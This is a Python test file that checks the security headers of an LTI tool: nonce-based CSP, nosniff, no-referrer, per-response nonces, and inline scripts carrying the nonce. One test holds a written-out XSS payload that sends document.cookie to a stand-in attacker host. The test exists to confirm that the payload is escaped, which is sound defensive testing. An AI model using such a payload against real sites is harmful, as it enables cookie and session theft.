"""Security headers on every HTML page: a nonce CSP that every inline script carries, nosniff,
no Referer; and no frame-ancestors, so the LMS can still frame the tool."""

from __future__ import annotations

import re
from pathlib import Path

from tests.builders import launch, login

TEMPLATES = Path(__file__).parents[1] / "lti_tool" / "templates"
SCRIPT = re.compile(r"<script\b([^>]*)>", re.I)


def _nonce(response) -> str:
    policy = response.headers["Content-Security-Policy"]
    assert "frame-ancestors" not in policy  # the LMS frames the tool
    assert "object-src 'none'" in policy and "base-uri 'none'" in policy
    match = re.search(r"script-src 'nonce-([A-Za-z0-9_-]+)'", policy)
    assert match, policy
    assert "unsafe-inline" not in policy
    return match.group(1)


def _check_page(response) -> None:
    assert response.mimetype == "text/html"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    nonce = _nonce(response)
    html = response.get_data(as_text=True)
    for attrs in SCRIPT.findall(html):
        if 'type="application/json"' in attrs:
            continue  # a data block: never run
        assert f'nonce="{nonce}"' in attrs, attrs


def test_every_inline_script_in_templates_carries_the_nonce():
    for path in TEMPLATES.rglob("*.html"):
        for attrs in SCRIPT.findall(path.read_text()):
            if 'type="application/json"' not in attrs:
                assert 'nonce="{{ csp_nonce() }}"' in attrs, (path, attrs)


def test_pages_with_scripts_and_error_pages_have_the_headers(client, platform, platform_key):
    _check_page(login(client).response)  # the login page's scripts run under the nonce
    launched = launch(client, platform_key, "admin")
    start = client.get(launched.headers["Location"])
    assert start.status_code == 200
    _check_page(start)
    _check_page(client.get("/start"))  # 401 page
    _check_page(client.get("/no-such-page"))  # 404 page


def test_each_response_gets_its_own_nonce(client, platform, platform_key):
    first, second = login(client).response, login(client).response
    assert _nonce(first) != _nonce(second)


def test_injected_markup_cannot_run(client, platform, platform_key):
    """The attacker's name is a script; it is escaped, and a script without the nonce would
    not run anyway."""
    evil = "<script>fetch('https://evil.example/'+document.cookie)</script>"
    launched = launch(client, platform_key, "admin", name=evil)
    page = client.get(launched.headers["Location"])
    _check_page(page)
    assert evil not in page.get_data(as_text=True)


def test_non_html_responses_are_nosniff_too(client):
    jwks = client.get("/.well-known/jwks.json")
    assert jwks.headers["X-Content-Type-Options"] == "nosniff"
    assert jwks.headers["Referrer-Policy"] == "no-referrer"
